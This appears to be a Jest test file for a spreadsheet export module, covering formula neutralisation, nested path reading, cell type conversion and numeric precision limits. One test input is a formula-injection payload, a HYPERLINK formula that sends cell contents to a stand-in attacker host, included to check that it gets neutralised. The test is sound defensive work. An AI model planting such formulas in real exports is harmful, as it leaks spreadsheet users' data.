import { cellOf, fitsSpreadsheetNumber, neutraliseFormula, readPath } from './cells';
import { TableColumn } from './table';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', `'=HYPERLINK("http://evil.example/?d="&A1,"Klik")`],
    ['=1+1', "'=1+1"],
    ['+62 812 3456 7890', "'+62 812 3456 7890"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
  ])('prefixes %j with an apostrophe', (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
  });

  it.each(['Siti Aminah', "'already quoted", ' =leading space', 'a=b', '3571011010', ''])('keeps %j', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('readPath', () => {
  it('reads nested paths and tolerates missing links', () => {
    const row = { a: { b: { c: 1 } }, n: null };
    expect(readPath(row, 'a.b.c')).toBe(1);
    expect(readPath(row, 'a.x.c')).toBeUndefined();
    expect(readPath(row, 'n.c')).toBeUndefined();
  });
});

describe('cellOf', () => {
  const col = <R>(column: Partial<TableColumn<R>>): TableColumn<R> => ({ key: 'v', ...column });

  it('converts numbers, keeping the exact digits of big integers as text', () => {
    expect(cellOf(col({ type: 'number' }), { v: -5 })).toEqual({ kind: 'number', value: -5, text: '-5' });
    expect(cellOf(col({ type: 'number' }), { v: '9007199254740993' })).toEqual({
      kind: 'number',
      value: 9007199254740992,
      text: '9007199254740993',
    });
    expect(cellOf(col({ type: 'number' }), { v: 12n })).toEqual({ kind: 'number', value: 12, text: '12' });
    // Not a number: written as (neutralised) text rather than dropped.
    expect(cellOf(col({ type: 'number' }), { v: '=1+1' })).toEqual({ kind: 'text', text: '=1+1' });
    expect(cellOf(col({ type: 'number' }), { v: Number.NaN })).toEqual({ kind: 'text', text: 'NaN' });
  });

  it('converts days, instants and booleans', () => {
    expect(cellOf(col({ type: 'date' }), { v: '2025-03-01' })).toEqual({ kind: 'date', day: '2025-03-01' });
    expect(cellOf(col({ type: 'date' }), { v: new Date('2025-03-01T00:00:00Z') })).toEqual({
      kind: 'date',
      day: '2025-03-01',
    });
    expect(cellOf(col({ type: 'date' }), { v: 'soon' })).toEqual({ kind: 'text', text: 'soon' });
    expect(cellOf(col({ type: 'datetime' }), { v: new Date('2025-03-01T02:03:04.005Z') })).toEqual({
      kind: 'text',
      text: '2025-03-01T02:03:04.005Z',
    });
    expect(cellOf(col({ type: 'boolean' }), { v: false })).toEqual({ kind: 'boolean', value: false });
  });

  it('is empty for null, undefined, empty text and empty lists; joins lists', () => {
    for (const v of [null, undefined, '', []]) expect(cellOf(col({}), { v })).toEqual({ kind: 'empty' });
    expect(cellOf(col({}), { v: ['PPKS-09', null, 'PPKS-20'] })).toEqual({ kind: 'text', text: 'PPKS-09; PPKS-20' });
  });

  it('uses value() when given and reads the key as a path otherwise', () => {
    const row = { person: { fullName: 'Siti' } };
    expect(cellOf({ key: 'person.fullName' }, row)).toEqual({ kind: 'text', text: 'Siti' });
    expect(cellOf({ key: 'x', value: (r: typeof row) => r.person.fullName.toUpperCase() }, row)).toEqual({
      kind: 'text',
      text: 'SITI',
    });
  });

  it('replaces lone surrogates, which neither UTF-8 nor XML can carry', () => {
    expect(cellOf(col({}), { v: 'a\uD800b' })).toEqual({ kind: 'text', text: 'a\uFFFDb' });
    expect(cellOf(col({}), { v: 'emoji 😀' })).toEqual({ kind: 'text', text: 'emoji 😀' });
  });
});

describe('fitsSpreadsheetNumber', () => {
  it('allows at most 15 significant digits', () => {
    expect(fitsSpreadsheetNumber({ value: 123456789012345, text: '123456789012345' })).toBe(true);
    expect(fitsSpreadsheetNumber({ value: 3571010101010001, text: '3571010101010001' })).toBe(false);
    expect(fitsSpreadsheetNumber({ value: -0.5, text: '-0.5' })).toBe(true);
  });
});
